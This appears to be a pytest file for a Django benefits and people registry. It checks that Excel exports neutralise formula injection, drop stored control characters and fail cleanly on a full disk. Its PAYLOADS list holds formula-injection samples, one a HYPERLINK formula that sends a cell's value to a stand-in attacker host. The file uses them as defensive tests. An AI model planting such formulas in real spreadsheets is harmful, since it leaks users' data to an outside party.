"""Every .xlsx goes through one writer (issue #22): no live formulas, no failure on stored
control characters; and a full disk (issue #19) fails cleanly: a message, no leftover
files, and no "exported" audit rows for a file that was never made."""

import datetime as dt
import errno
import io
import os
import tempfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from canlian.audit.models import AuditEvent
from canlian.benefits import rolls
from canlian.benefits.tests.conftest import certified  # noqa: F401 - fixture
from canlian.benefits.tests.helpers import grant
from canlian.people.models import Person
from canlian.people.workbooks import error_workbook

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-3+4", "@SUM(A1)",
            "=1+1", "\t=1"]


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for row in book.worksheets[0].iter_rows() for cell in row]


def _download(response) -> bytes:
    return b"".join(response.streaming_content)


def test_person_export_never_writes_a_formula(client, users, make_person, regions):
    for i, payload in enumerate(PAYLOADS):
        make_person(regions.v1a, name=f"甲{i}", address=payload, phone="")
    client.force_login(users.federation)
    cells = _cells(_download(client.get(reverse("people:export"))))
    assert set(PAYLOADS) <= {c.value for c in cells}
    assert not [c for c in cells if c.data_type == "f"]
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t")):
            assert cell.data_type == "s" and cell.quotePrefix


def test_the_roster_error_workbook_neutralises_formulas_too():
    path = error_workbook([{"row": 2, "column": "姓名", "reason": "=1+1",
                            "values": {"name": "@x", "address": "-2"}}])
    cells = _cells(path.read_bytes())
    path.unlink()
    assert not [c for c in cells if c.data_type == "f"]


def test_stored_control_characters_do_not_break_exports(client, users, make_person, regions):
    person = make_person(regions.v1a, name="张三")
    Person.objects.filter(pk=person.pk).update(name="张\x01三\u202e", address="地址\x0b一号")
    client.force_login(users.federation)
    response = client.get(reverse("people:export"))
    assert response.status_code == 200
    values = {c.value for c in _cells(_download(response))}
    assert "张三" in values and "地址一号" in values


def test_stored_control_characters_do_not_break_the_bank_file(client, users, certified,  # noqa: F811
                                                              regions):
    person = certified(grade=1, name="李四")
    grant(users, person, applied=dt.date(2025, 3, 2))
    roll = rolls.finalise(rolls.generate(regions.county, dt.date(2025, 3, 1)).roll)
    roll.lines.update(payee="李\x01四")
    client.force_login(users.federation)
    response = client.get(reverse("benefits:roll_bank_file", args=[roll.pk]))
    assert response.status_code == 200
    assert "李四" in {c.value for c in _cells(_download(response))}


@pytest.fixture
def full_disk(monkeypatch, tmp_path):
    """The disk fills while the workbook is written: half the file, then ENOSPC."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def save(self, filename):
        with open(filename, "wb") as handle:
            handle.write(b"PK\x03\x04" + b"\0" * 1000)
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Workbook, "save", save)
    return tmp_path


def test_a_full_disk_fails_the_export_cleanly(client, users, make_person, regions, full_disk):
    make_person(regions.v1a, name="王五")
    client.force_login(users.federation)
    response = client.get(reverse("people:export"))
    assert response.status_code == 503
    assert "磁盘空间不足" in response.content.decode() or "disk is full" in response.content.decode()
    assert os.listdir(full_disk) == []
    assert not AuditEvent.objects.filter(action="export").exists()


def test_a_full_disk_fails_the_bank_file_without_audit_rows(client, users, certified,  # noqa: F811
                                                            regions, full_disk):
    grant(users, certified(grade=1, name="赵六"), applied=dt.date(2025, 3, 2))
    roll = rolls.finalise(rolls.generate(regions.county, dt.date(2025, 3, 1)).roll)
    client.force_login(users.federation)
    response = client.get(reverse("benefits:roll_bank_file", args=[roll.pk]))
    assert response.status_code == 503
    assert not AuditEvent.objects.filter(action="export").exists()
    assert os.listdir(full_disk) == []
